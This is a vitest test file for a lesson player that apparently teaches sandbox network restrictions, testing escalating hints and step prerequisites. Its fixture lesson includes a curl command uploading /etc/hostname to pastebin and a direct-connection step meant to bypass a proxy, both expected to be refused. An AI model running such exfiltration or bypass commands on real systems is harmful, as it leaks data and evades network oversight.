import { describe, expect, it } from "vitest";
import { parseLesson } from "./parse";
import { createLessonRun } from "./player";
import type { Lesson } from "./schema";
import { bypassRefused, pastebinRefused } from "./testing/windows";

const LESSON: Lesson = {
  lesson: 1,
  title: "Hints and needs",
  steps: [
    {
      title: "Pastebin",
      run: "curl -sS -T /etc/hostname https://pastebin.com/api/upload",
      expect: [{ verdict: "host-not-allowed", by: "proxy" }],
      hint: ["Think of pastebin.", "Upload with `curl -T`.", "Type: `curl -sS -T /etc/hostname https://pastebin.com/api/upload`"],
    },
    { title: "Bypass", run: "llrun --connect 3128 -- tcpconnect 93.184.216.34 443", expect: [{ kernel: "EACCES" }], needs: [1] },
  ],
};

describe("hints that escalate", () => {
  it("show one more hint per failed attempt, then all of them; a pass resets them", () => {
    const run = createLessonRun(LESSON, "p");
    expect(run.attempt(bypassRefused())?.note).toBe("Think of pastebin.");
    expect(run.attempt(bypassRefused())?.note).toBe("Think of pastebin.\n\nUpload with `curl -T`.");
    run.attempt(bypassRefused());
    expect(run.attempt(bypassRefused())?.note?.split("\n\n")).toHaveLength(3);
    expect(run.progress.failures).toBe(4);
    expect(run.attempt(pastebinRefused())?.passed).toBe(true);
    expect(run.progress.failures).toBe(0);
  });

  it("a single hint is shown from the first failed attempt, as before", () => {
    const one: Lesson = { ...LESSON, steps: [{ ...LESSON.steps[0]!, hint: "Only this." }] };
    expect(createLessonRun(one, "p").attempt(bypassRefused())?.note).toBe("Only this.");
  });
});

describe("needs", () => {
  it("a step whose needed steps have not passed is not judged, and says which it waits for", () => {
    const run = createLessonRun(LESSON, "p");
    run.jumpTo(1);
    const a = run.attempt(bypassRefused());
    expect(a?.passed).toBe(false);
    expect(a?.judgement.explanation).toBe("This step opens once step 1 passed; it was not judged.");
    run.jumpTo(0);
    run.attempt(pastebinRefused());
    expect(run.attempt(bypassRefused())?.passed).toBe(true);
  });

  it("lesson check refuses a step that needs itself or a later step, and a hint list that is empty", () => {
    const text = (needs: string, hint = "h") =>
      `lesson: 1\ntitle: T\nsteps:\n  - title: A\n    run: "true"\n    expect: [{ exit: 0 }]\n    hint: ${hint}\n  - title: B\n    run: "true"\n    expect: [{ exit: 0 }]\n    needs: ${needs}\n`;
    expect(parseLesson(text("[1]")).ok).toBe(true);
    const later = parseLesson(text("[2]"));
    expect(later.ok).toBe(false);
    if (!later.ok) expect(later.issues[0]?.message).toMatch(/can only need a step before it/);
    expect(parseLesson(text("[1]", "[]")).ok).toBe(false);
    expect(parseLesson(text("[1]", "[one, two]")).ok).toBe(true);
  });
});
